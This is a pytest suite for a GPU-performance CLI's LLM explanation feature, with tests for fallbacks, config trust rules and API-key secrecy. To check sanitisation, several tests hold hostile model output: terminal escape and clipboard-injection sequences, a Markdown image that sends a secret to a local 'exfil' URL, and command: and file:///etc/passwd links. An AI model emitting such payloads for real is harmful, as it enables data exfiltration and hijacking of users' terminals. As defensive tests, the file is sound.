"""`perflsp explain`: the static explanation without an LLM, the model's explanation from a real
loopback server speaking the OpenAI protocol, one clear line when the endpoint fails, settings
from the user config and the workspace file under the endpoint policy, and the API key never
printed."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parent / "llm"))

from llm_fakes import Reply, ScriptedServer, Wire, closed_port_url

from perflsp.cli import cli
from perflsp.cli.explain_cmd import EXIT_LLM_FAILED

ROOT = Path(__file__).resolve().parents[1]
NBODY = ROOT / "examples" / "cuda" / "nbody.cu"
API_KEY = "sk-explain-test-5c1d9e7a3b"
OPENAI = Wire("openai")
EXPLANATION = "**Compute-bound.** Line 12 runs 20 FLOP per body pair on data the block shares (line 8)."
VERDICT = json.dumps({
    "verdict": "compute", "confidence": 0.9, "rationale": "Tiled all-pairs: FLOPs grow with n squared.",
    "factors": [{"text": "20 FLOP per pair", "line": 12}],
    "proposals": {"block_size": None, "launch_bounds": None, "num_teams": None, "thread_limit": None,
                  "code_changes": []},
})


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return {
        "PERFLSP_CONFIG": str(tmp_path / "user-config.toml"),  # never the developer's own settings
        "PERFLSP_CACHE_DIR": str(tmp_path / "cache"),
        "OPENAI_API_KEY": API_KEY,
        "HOME": str(tmp_path),
    }


@pytest.fixture
def server():
    with ScriptedServer() as srv:
        yield srv


def invoke(args: list[str], env: dict[str, str], cwd: Path):
    runner = CliRunner()
    old = Path.cwd()
    os.chdir(cwd)
    try:
        return runner.invoke(cli, ["explain", *args], env=env, catch_exceptions=False)
    finally:
        os.chdir(old)


def run_process(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
    full_env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(ROOT), **env}
    return subprocess.run([sys.executable, "-m", "perflsp", "explain", *args], check=False, capture_output=True, text=True,
                          env=full_env, cwd=cwd, timeout=120)


def llm_flags(url: str) -> list[str]:
    return ["--provider", "openai", "--base-url", url, "--model", "fake-model"]


# -- without an LLM --------------------------------------------------------------------------------


def test_no_endpoint_prints_the_static_explanation_and_how_to_configure(env, tmp_path):
    proc = run_process([str(NBODY), "--gpu", "rtx3080"], env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "## CUDA kernel nbody_accel" in out and "## CUDA kernel nbody_integrate" in out
    assert "compute-bound" in out and "bandwidth-bound" in out
    assert "Evidence:" in out and re.search(r"FP32: \d+ FLOP/B ≥ ridge 39\.2", out) and "Occupancy:" in out
    assert "To change the verdict:" in out
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "LLM not used: the LLM advisor is off" in lines[0]
    assert "[llm]" in lines[0] and "--model" in lines[0] and str(tmp_path / "user-config.toml") in lines[0]


def test_static_json_and_line_selection(env, tmp_path):
    result = invoke([f"{NBODY}:55", "--gpu", "rtx3080", "--json"], env, tmp_path)
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    (kernel,) = data["kernels"]
    assert kernel["name"] == "nbody_integrate" and kernel["line"] == 51 and kernel["llm"] is None
    assert kernel["static"]["verdict"] == "bandwidth" and kernel["static"]["ridge"]["fp32"] > 30
    assert data["llm"]["used"] is False and "off" in data["llm"]["reason"]


def test_line_outside_kernels_takes_the_nearest_and_says_so(env, tmp_path):
    result = invoke([f"{NBODY}:70", "--gpu", "rtx3080", "--static"], env, tmp_path)
    assert result.exit_code == 0
    assert "no kernel spans line 70" in result.stderr and "nbody_integrate" in result.stderr
    assert result.stdout.count("## CUDA kernel") == 1 and "LLM not used" not in result.stderr


@pytest.mark.parametrize(("args", "code", "message"), [
    (["missing.cu", "--gpu", "rtx3080"], 3, "cannot read missing.cu"),
    ([f"{NBODY}:100000", "--gpu", "rtx3080"], 2, "no line 100000"),
    ([str(NBODY), "--gpu", "no-such-gpu"], 2, "unknown GPU 'no-such-gpu'"),
])
def test_bad_input_is_one_line_and_an_exit_code(env, tmp_path, args, code, message):
    result = invoke(args, env, tmp_path)
    assert result.exit_code == code and message in result.stderr and "Traceback" not in result.output


def test_file_without_kernels(env, tmp_path):
    (tmp_path / "host.cpp").write_text("int main() { return 0; }\n")
    result = invoke(["host.cpp", "--gpu", "rtx3080"], env, tmp_path)
    assert result.exit_code == 2 and "no CUDA kernel or OpenMP target region" in result.stderr


# -- with a loopback endpoint ------------------------------------------------------------------------


def test_streamed_explanation_from_a_loopback_server(env, tmp_path, server):
    server.push(OPENAI.reply(EXPLANATION))
    proc = run_process([f"{NBODY}:31", "--gpu", "rtx3080", *llm_flags(server.url), "--no-cache"], env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert EXPLANATION in proc.stdout and "LLM: fake-model" in proc.stdout
    assert "Static estimate: compute-bound" in proc.stdout and f"{NBODY}:30" in proc.stdout
    (request,) = server.requests
    assert request.headers["authorization"] == f"Bearer {API_KEY}"
    prompt = OPENAI.prompt_text(request)
    assert "Explain the performance of CUDA kernel `nbody_accel`" in prompt
    assert "body_body_accel" in prompt and "nbody_integrate" not in prompt and "main(" not in prompt
    assert API_KEY not in proc.stdout + proc.stderr


def test_json_verdict_beside_the_static_estimate(env, tmp_path, server):
    server.push(OPENAI.reply(VERDICT))
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--json", *llm_flags(server.url)], env, tmp_path)
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    (kernel,) = data["kernels"]
    assert data["llm"] == {"used": True, "reason": None, "model": "fake-model", "endpoint": server.url}
    assert kernel["llm"]["source"] == "llm" and kernel["llm"]["verdict"] == "compute"
    assert kernel["llm"]["factors"][0]["line"] == 30 + 12 - 1  # listing line 12 -> file line 41
    assert kernel["static"]["verdict"] == "compute" and kernel["llm"]["prompt_tokens"] == 120
    # a second run is answered from the cache, with no request
    again = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--json", *llm_flags(server.url)], env, tmp_path)
    assert json.loads(again.stdout)["kernels"][0]["llm"]["from_cache"] is True and len(server.requests) == 1


def test_unreachable_endpoint_is_one_line_and_the_static_answer(env, tmp_path):
    url = closed_port_url()
    proc = run_process([str(NBODY), "--gpu", "rtx3080", *llm_flags(url), "--no-cache"], env, tmp_path)
    assert proc.returncode == EXIT_LLM_FAILED
    errors = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(errors) == 1 and "no LLM explanation" in errors[0] and "127.0.0.1" in errors[0]
    assert proc.stdout.count("(no LLM explanation: the static one follows)") == 2
    assert proc.stdout.count("Evidence:") == 2
    assert API_KEY not in proc.stdout + proc.stderr and "Traceback" not in proc.stderr


def test_rate_limited_json_falls_back_to_static(env, tmp_path, server):
    server.push(*[OPENAI.error(429, "slow down", {"Retry-After": "600"})] * 2)
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--json", "--no-cache", *llm_flags(server.url)],
                    env, tmp_path)
    assert result.exit_code == EXIT_LLM_FAILED
    kernel = json.loads(result.stdout)["kernels"][0]
    assert kernel["llm"]["source"] == "static" and "429" in kernel["llm"]["fallback_reason"]
    assert len([line for line in result.stderr.splitlines() if line.strip()]) == 1


def test_timeout(env, tmp_path, server):
    server.push(Reply(hang=True))
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--timeout", "0.5", "--no-cache", *llm_flags(server.url)],
                    env, tmp_path)
    assert result.exit_code == EXIT_LLM_FAILED
    assert "no complete answer within 0.5 s" in result.stderr and "Evidence:" in result.stdout


def test_remote_endpoint_without_a_key(env, tmp_path):
    env = {k: v for k, v in env.items() if k != "OPENAI_API_KEY"}
    result = invoke([str(NBODY), "--gpu", "rtx3080", "--model", "m", "--base-url", "https://llm.example.invalid/v1"],
                    env, tmp_path)
    assert result.exit_code == EXIT_LLM_FAILED
    assert "no API key for https://llm.example.invalid/v1: set the environment variable OPENAI_API_KEY" in result.stderr
    assert "Evidence:" in result.stdout


# -- settings files and the endpoint policy --------------------------------------------------------


def test_user_config_enables_the_llm(env, tmp_path, server):
    Path(env["PERFLSP_CONFIG"]).write_text(
        f'[llm]\nenabled = true\nprovider = "openai"\nbaseUrl = "{server.url}"\nmodel = "fake-model"\n')
    server.push(OPENAI.reply(EXPLANATION))
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--no-cache"], env, tmp_path)
    assert result.exit_code == 0, result.stderr
    assert EXPLANATION in result.stdout and len(server.requests) == 1


def test_workspace_file_cannot_point_at_a_remote_host(env, tmp_path, server):
    (tmp_path / ".perflsp.toml").write_text(
        '[llm]\nenabled = true\nbase_url = "http://203.0.113.7:8080"\nmodel = "m"\napi_key_env = "OPENAI_API_KEY"\n')
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080"], env, tmp_path)
    assert result.exit_code == 0 and "Evidence:" in result.stdout
    assert "untrusted workspace" in result.stderr and "--trust-workspace" in result.stderr


def test_workspace_file_may_choose_a_loopback_endpoint(env, tmp_path, server):
    (tmp_path / ".perflsp.toml").write_text(
        f'[llm]\nenabled = true\nbase_url = "{server.url}"\nmodel = "fake-model"\nunknown_knob = 1\n')
    server.push(OPENAI.reply(EXPLANATION))
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--no-cache"], env, tmp_path)
    assert result.exit_code == 0, result.stderr
    assert EXPLANATION in result.stdout
    assert "llm.unknown_knob ignored: unknown setting" in result.stderr


def test_invalid_settings_file(env, tmp_path):
    Path(env["PERFLSP_CONFIG"]).write_text("[llm\n")
    result = invoke([str(NBODY), "--gpu", "rtx3080"], env, tmp_path)
    assert result.exit_code == 2 and "invalid TOML" in result.stderr and "Traceback" not in result.output


# -- model text is data; small argument and settings cases -------------------------------------


def test_model_text_is_stripped_of_control_sequences_and_bounded(env, tmp_path, server):
    Path(env["PERFLSP_CONFIG"]).write_text(
        f'[llm]\nenabled = true\nprovider = "openai"\nbaseUrl = "{server.url}"\nmodel = "fake-model"\n'
        "maxOutputTokens = 64\n")
    hostile = ("\x1b[31mRED\x1b[0m \x1b]0;pwned title\x07\x1b]52;c;Y3VybCBldmls\x07\x9b2J"
               "plain\r\nnext\x08\x00line " + "word " * 20_000)
    server.push(OPENAI.reply(hostile))
    proc = run_process([f"{NBODY}:31", "--gpu", "rtx3080", "--no-cache"], env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "RED plain\nnextline word" in out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)  # no ESC, BEL, CR, NUL, C1 ...
    assert "pwned" not in out and "Y3Vy" not in out
    assert "cut off after 384 characters" in out  # 64 tokens * 6 characters
    model_text = out.split("(line numbers count from the kernel's first line", 1)[1]
    assert len(model_text) < 384 + 400 and out.count("word") < 100


def test_model_text_in_json_is_stripped(env, tmp_path, server):
    hostile = json.loads(VERDICT)
    hostile["rationale"] = "\x1b[2J\x1b]0;x\x07Tiled\u202e all-pairs\x07"
    server.push(OPENAI.reply(json.dumps(hostile)))
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--json", "--no-cache", *llm_flags(server.url)], env, tmp_path)
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["kernels"][0]["llm"]["rationale"] == "Tiled all-pairs"


@pytest.mark.parametrize("line", ["-5", "0"])
def test_a_negative_line_is_a_bad_line_not_a_file_name(env, tmp_path, line):
    result = invoke([f"{NBODY}:{line}", "--gpu", "rtx3080"], env, tmp_path)
    assert result.exit_code == 2 and f"bad line {line}" in result.stderr and "cannot read" not in result.stderr


def test_a_malformed_gpus_file_is_a_usage_error(env, tmp_path):
    bad = tmp_path / "gpus.toml"
    bad.write_text('[[gpu]]\nid = "mine"\nvendor = "NVIDIA"\nmemory_bandwidth_gbs = -5\n')
    result = invoke([str(NBODY), "--gpu", "rtx3080", "--gpus-file", str(bad)], env, tmp_path)
    assert result.exit_code == 2
    assert result.stderr.startswith("perflsp: error: invalid GPU definition") and "Error:" not in result.stderr


def test_workspace_file_cannot_choose_the_key_variable(env, tmp_path, server):
    (tmp_path / ".perflsp.toml").write_text(
        f'[llm]\nenabled = true\nbase_url = "{server.url}"\nmodel = "fake-model"\napi_key_env = "OPENAI_API_KEY"\n')
    result = invoke([f"{NBODY}:31", "--gpu", "rtx3080", "--no-cache"], env, tmp_path)
    assert result.exit_code == 0 and "Evidence:" in result.stdout and not server.requests
    assert "API key variable was chosen by workspace-file settings of an untrusted workspace" in result.stderr


def test_model_markdown_is_printed_inert(env, tmp_path, server):
    """Issue 28: the explanation printed is Markdown a user may render: the model's remote
    images, raw HTML and command:/file: links come out as inert text."""
    from markdown_it import MarkdownIt

    Path(env["PERFLSP_CONFIG"]).write_text(
        f'[llm]\nenabled = true\nprovider = "openai"\nbaseUrl = "{server.url}"\nmodel = "fake-model"\n')
    hostile = ("**Tiled.** ![](http://127.0.0.1:9/exfil?q=secret) <img src=\"http://127.0.0.1:9/i.png\">\n"
               "Run [this](command:workbench.action.terminal.new), open [that](file:///etc/passwd), "
               "<a href=\"command:x\">here</a>\n\n```cuda\nif (i < n) y[i] = x[i];\n```\n")
    server.push(OPENAI.reply(hostile))
    proc = run_process([f"{NBODY}:31", "--gpu", "rtx3080", "--no-cache"], env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    model_text = proc.stdout.split("(line numbers count from the kernel's first line", 1)[1]
    assert "exfil" in model_text and "if (i < n) y[i] = x[i];" in model_text  # shown, as text
    render = MarkdownIt("commonmark", {"html": True})
    render.validateLink = lambda url: True
    html = render.render(model_text.split("\n", 1)[1])
    assert not re.search(r"<(?:img|a|script)\b", html), html
    assert "<strong>Tiled.</strong>" in html and "<pre><code" in html
